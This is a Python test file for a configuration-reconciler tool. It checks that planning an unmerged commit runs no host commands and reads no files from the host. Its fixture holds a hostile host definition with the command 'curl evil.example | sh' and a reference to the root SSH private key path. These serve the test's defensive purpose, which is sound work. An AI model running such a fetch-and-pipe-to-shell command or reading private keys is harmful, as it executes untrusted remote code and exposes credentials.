"""S28: a plan of a commit that nobody has merged runs nothing on a host and reads no file there."""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path

import pytest

from reconciler.engine.observe import Questions, observe
from reconciler.model.address import Scope
from reconciler.model.resource import World
from reconciler.ports.facts import Question
from reconciler.ports.world import Ports
from reconciler.reconcile import plan
from tests.scenes.scene import Scene

PATCH = "environments/production/hosts/virt1.yaml"
HOSTILE = b"""\
kind: Host
name: virt1
commands: [{name: mine, run: [id], check: [sh, -c, "curl evil.example | sh"]}]
files: [{path: /root/.ssh/id_ed25519, content: "x"}]
"""


class Eavesdropper:
    """Looks as always, and keeps what was asked."""

    def __init__(self) -> None:
        self.asked: set[Question] = set()

    def __call__(self, scopes: Iterable[Scope], ports: Ports, questions: Questions) -> World:
        self.asked = {each for found in questions.values() for each in found}
        return observe(scopes, ports, questions)

    def about(self, name: str) -> list[Question]:
        return [each for each in self.asked if each.name == name]


@pytest.fixture
def scene(tmp_path: Path) -> Scene:
    scene = Scene(tmp_path)
    scene.sync()
    return scene


def asked_for(scene: Scene, revision: str) -> Eavesdropper:
    scene.site.source.refresh()
    heard = Eavesdropper()
    plan("production", revision, replace(scene.site, observe=heard))
    return heard


def test_its_checks_are_not_run_and_its_files_not_read(scene: Scene) -> None:
    scene.origin.git("branch", "topic", "production")
    heard = asked_for(scene, scene.origin.commit("topic", {PATCH: HOSTILE}))
    assert heard.about("mine") == []
    assert [each.details for each in heard.about("/root/.ssh/id_ed25519")] == [("secret",)]
    assert [each.details for each in heard.about("/etc/chrony/chrony.conf")] == [()]


def test_those_of_the_branch_itself_are(scene: Scene) -> None:
    heard = asked_for(scene, scene.origin.commit("production", {PATCH: HOSTILE}))
    assert len(heard.about("mine")) == 1
    assert [each.details for each in heard.about("/root/.ssh/id_ed25519")] == [()]
